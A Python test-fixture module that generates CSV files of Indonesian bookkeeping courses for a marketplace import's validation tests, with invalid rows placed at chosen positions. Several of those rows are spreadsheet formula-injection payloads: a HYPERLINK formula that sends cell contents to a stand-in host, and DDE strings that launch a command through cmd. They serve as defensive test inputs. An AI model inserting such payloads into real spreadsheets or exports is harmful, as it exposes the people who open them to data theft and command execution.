"""CSV files of courses for the import's tests (curation/imports.py): good rows made from
one pattern, bad rows put at chosen places, written as a spreadsheet would."""

import csv
import io

from marketplace.curation.imports import COLUMNS


def good_row(number: int, category: str, **cells) -> dict:
    """A self-paced course that the editor and the standard accept (but for its questions)."""
    row = {
        "title": f"Pembukuan UMKM dengan Spreadsheet Angkatan {number}",
        "summary": "Menyusun laporan laba rugi dan arus kas usaha kecil dengan spreadsheet.",
        "description": (
            "Pelatihan ini mengajak pelaku usaha kecil menyusun laporan keuangan sederhana: "
            f"mencatat transaksi harian dan menyusun laporan laba rugi bulanan ({number})."
        ),
        "outcomes": "Mencatat transaksi harian\nMenyusun laporan laba rugi",
        "audience": "Pelaku UMKM",
        "category": category,
        "method": "self_paced",
        "level": "beginner",
        "price": "450000",
        "province": "",
        "city": "",
        "needs_demonstration": "",
        "demonstration_brief": "",
        "pass_mark": "60",
        "test_tries": "3",
        "modules": "Mencatat transaksi | 60; Laporan laba rugi | 60",
    }
    row.update(cells)
    return row


def csv_bytes(
    rows: list[dict],
    columns=COLUMNS,
    *,
    bom: bool = False,
    encoding: str = "utf-8",
    delimiter: str = ",",
    blank_lines_after: frozenset = frozenset(),
) -> bytes:
    """The rows as a CSV file (CRLF line ends, as spreadsheets write them); a blank line
    after each row whose index is in `blank_lines_after`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(columns)
    for index, row in enumerate(rows):
        writer.writerow([row.get(name, "") for name in columns])
        if index in blank_lines_after:
            buffer.write("\r\n")
    text = buffer.getvalue()
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


# Bad rows mixed into the big file: (index in the file, cells changed, column, message id).
BAD_ROWS = [
    (7, {"pass_mark": "enam puluh"}, "pass_mark",
     "The pass mark is a whole number from %(lowest)s to %(highest)s."),
    (150, {"category": "tidak-ada"}, "category",
     "No category has the slug \u201c%(value)s\u201d: use a slug listed on the import page."),
    (333, {"price": "-450000"}, "price",
     "Type the price in whole rupiah, digits only (for example 450000)."),
    (512, {"title": '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")'}, "title",
     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
     "it): start it with a letter or a digit."),
    (700, {"summary": "+cmd|' /C calc'!A0 ringkasan yang berbahaya"}, "summary",
     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
     "it): start it with a letter or a digit."),
    (901, {"outcomes": "Mencatat transaksi\n@SUM(1+1)*cmd|' /C calc'!A0"}, "outcomes",
     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
     "it): start it with a letter or a digit."),
    (1002, {"description": "x" * 10001}, "description",
     "Write %(shortest)s to %(longest)s characters."),
    (1203, {"modules": "Pengantar | 60; -2+3+cmd | 60"}, "modules",
     "A text can't start like a spreadsheet formula (=, @, or + or - without a space after "
     "it): start it with a letter or a digit."),
    (1404, {"method": "telepati"}, "method", "Choose how the course is taught."),
    (1499, {"modules": "Pengantar | 7"}, "modules",
     "A module lasts at least %(shortest)s minutes, in steps of %(step)s minutes."),
]  # fmt: skip


def lines_of(rows: list[dict]) -> list[int]:
    """The line each row starts on in `csv_bytes(rows)`: the header is line 1, and a cell's
    line breaks make its row span more lines."""
    starts, line = [], 2
    for row in rows:
        starts.append(line)
        line += 1 + sum(str(cell).count("\n") for cell in row.values())
    return starts


def big_file(category: str, rows: int = 1500) -> tuple[bytes, dict[int, tuple[str, str]]]:
    """`rows` courses, BAD_ROWS among them; the file and {line: (column, message)} of the
    bad ones."""
    made = [good_row(number, category) for number in range(rows)]
    for index, cells, _column, _message in BAD_ROWS:
        made[index].update(cells)
    starts = lines_of(made)
    expected = {starts[index]: (column, message) for index, _cells, column, message in BAD_ROWS}
    return csv_bytes(made), expected
